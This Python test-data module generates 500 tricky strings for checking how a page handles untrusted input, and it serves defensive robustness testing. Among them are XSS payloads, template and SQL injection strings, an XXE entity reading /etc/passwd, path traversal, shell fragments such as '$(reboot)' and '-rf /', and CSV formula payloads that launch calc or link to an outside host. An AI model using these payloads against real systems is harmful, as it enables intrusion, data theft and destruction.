"""Strings that a page could stumble over: 500 of them, and a few of each kind.

Kinds after OWASP's XSS filter evasion sheet, Unicode's bidirectional algorithm (UAX #9), CSV injection (OWASP), and
names that mean something to JavaScript, templates or shells.
"""

from __future__ import annotations

from itertools import chain, cycle, islice

_ACT = "document.title='caught'"
_EVENTS = ("onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onpointerenter", "onanimationstart", "onbegin")
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video><source",
    "audio src=x",
    "marquee",
    "iframe",
)
_HTML = [
    f"<script>{_ACT}</script>",
    f"<ScRiPt>{_ACT}</sCrIpT>",
    f"</script><script>{_ACT}</script>",
    "<script src=//192.0.2.1/x.js></script>",
    f'"><script>{_ACT}</script>',
    f"'><img src=x onerror={_ACT}>",
    "<iframe src=javascript:document.title='caught'></iframe>",
    f'<iframe srcdoc="<script>parent.{_ACT}</script>"></iframe>',
    "<link rel=stylesheet href=//192.0.2.1/x.css>",
    "<style>*{display:none}</style>",
    "<base href=//192.0.2.1/>",
    "<meta http-equiv=refresh content='0;url=//192.0.2.1/'>",
    "<form action=//192.0.2.1/><input name=password>",
    "<a href=javascript:document.title='caught'>a</a>",
    f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={_ACT}>",
    f"<noscript><p title='</noscript><img src=x onerror={_ACT}>'>",
    "<plaintext>",
    "<!--",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&lt;script&gt;&#x41;&amp;&nbsp;",
    "<em>not ours</em><mark>nor this</mark>",
    "</title></textarea></style></main></div>",
]
_HTML += [f"<{tag} {event}={_ACT}>" for tag in _TAGS for event in _EVENTS]
_URLS = [
    f"{scheme}{rest}"
    for scheme in (
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "\x01javascript:",
        "vbscript:",
        "data:text/html,",
        "blob:",
    )
    for rest in (_ACT, "//%0a" + _ACT, "<script>" + _ACT + "</script>")
]
_URLS += [
    "https://192.0.2.1/seen.png",
    "//192.0.2.1/x",
    "![seen](http://192.0.2.1/x.png)",
    f"[link](javascript:{_ACT})",
    f"[a]: javascript:{_ACT}\n\n[a]",
    "<http://192.0.2.1/auto>",
    "http://user:password@192.0.2.1/%2e%2e",
    "../../../etc/passwd",
    "..%2f..%2f",
    "a/b/../c",
    "#/models?x=1",
    "?limit=1&cursor=x",
    "/",
    ".",
    "..",
    "%",
    "%00",
    "%E0%A4%A",
    "C:\\con\\aux",
    "file.txt\u202egpj.exe",
]
_BIDI = [f"left{chr(mark)}thgir" for mark in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C)]
_BIDI += ["עברית and English", "العربية 123 - (a)", "\u202e" * 40 + "drawkcab", "a\u2067b\u2066c"]
_CONTROLS = [f"con{chr(code)}trol" for code in (*range(0x00, 0x20), *range(0x7F, 0xA0))]
_CONTROLS += [
    f"in{chr(c)}visible"
    for c in (0xAD, 0x200B, 0x200C, 0x200D, 0x2028, 0x2029, 0x2060, 0xFEFF, 0xFFFD, 0xFFFE, 0xE0041)
]
_LONG = [sign * 250 for sign in ("W", "i", "中", "🐋", ".", "-", "_", "a ", "\u0301a", "﷽", "👨‍👩‍👧‍👦"[:1] + "\u200d")]
_LONG += ["no-break\u00a0" * 25, "Z" + "\u0300\u0301\u0302" * 80, "a" * 120 + "<b>" + "c" * 100]
_LONE = [f"a{half}b" for half in ("\ud800", "\udfff", "\udc00\ud800")]
"""Halves of surrogate pairs, which JSON can escape and UTF-8 cannot hold."""
_TEMPLATES = [
    f"{begin}{inner}{end}"
    for begin, end in (
        ("${", "}"),
        ("{{", "}}"),
        ("#{", "}"),
        ("<%=", "%>"),
        ("{%", "%}"),
        ("[[", "]]"),
        ("`${", "}`"),
        ("$(", ")"),
    )
    for inner in ("7*7", "constructor.constructor('" + "return 1')()", "name", "count")
]
_TEMPLATES += [
    "{name}",
    "{count}",
    "{}",
    "%s%n%d",
    "$&$1$`$'",
    "\\u003cb\\u003e",
    "\\x3cb\\x3e",
    "\\",
    "\\\\n",
    "`",
    "```",
    "'; DROP TABLE users; --",
]
_TEMPLATES += [
    "`id`",
    "$(reboot)",
    "| cat",
    "a;b&&c",
    "'\"`",
    '"',
    "'",
    "' OR '1'='1",
    "--help",
    "-rf /",
    "~",
    "*",
    "&",
    "|",
]
_NAMES = [
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "valueOf",
    "then",
    "__defineGetter__",
    "undefined",
    "null",
]
_NAMES += [
    "NaN",
    "Infinity",
    "true",
    "0",
    "-1",
    "1e999",
    "0x10",
    "[object Object]",
    "length",
    "key",
    "ref",
    "props",
    "children",
    "id",
    "value",
]
_FORMULAS = [
    f"{sign}{rest}" for sign in "=+-@\t\r" for rest in ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://192.0.2.1";"x")')
]
_TEXTS = [
    "中文名称",
    "繁體中文",
    "日本語テスト",
    "한국어",
    "ไทย",
    "हिन्दी",
    "Ω≈ç√∫",
    "ÀÉÎÕÜ",
    "ﬁ ligature",
    "①②③",
    "　全角　空格　",
    "，。！？",
    "𠜎𠜱𡃁",
]
_TEXTS += [
    "🐋",
    "👩🏽‍💻",
    "🇨🇳🇬🇧",
    "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "♥️",
    "a\nb",
    "a\r\nb",
    "a\tb",
    " leading",
    "trailing ",
    "  ",
    "\n",
    "a\u3000b",
    "ｆｕｌｌ",
    "ß",
    "İi",
]
_MARKDOWN = [
    "# heading",
    "**bold** _it_",
    "- item",
    "> quote",
    "| a | b |\n|---|---|\n| c | d |",
    "```html\n<script>\n```",
    "---",
    "[x](y)",
    "~~~",
    "1. one",
]
_MARKDOWN += [
    "<details><summary>s</summary>x</details>",
    "![](data:image/svg+xml,<svg/onload=1>)",
    "[^1]",
    "- [ ] task",
    "a\\\nb",
    "***",
]

KINDS = (_HTML, _URLS, _BIDI, _CONTROLS, _LONG, _LONE, _TEMPLATES, _NAMES, _FORMULAS, _TEXTS, _MARKDOWN)
COUNT = 500


def _all() -> list[str]:
    """Each once, and then pairs of them until there are enough."""
    plain = list(dict.fromkeys(chain.from_iterable(KINDS)))
    pairs = (
        f"{text[:60]} {other[:60]}"
        for text, other in zip(cycle(_HTML), chain(_BIDI, _TEXTS, _URLS, _CONTROLS), strict=False)
    )
    return list(islice(dict.fromkeys(chain(plain, pairs)), COUNT))


ALL = _all()
FEW = list(dict.fromkeys(chain.from_iterable(islice(kind, 0, None, max(1, len(kind) // 4)) for kind in KINDS)))
"""Some of each kind."""
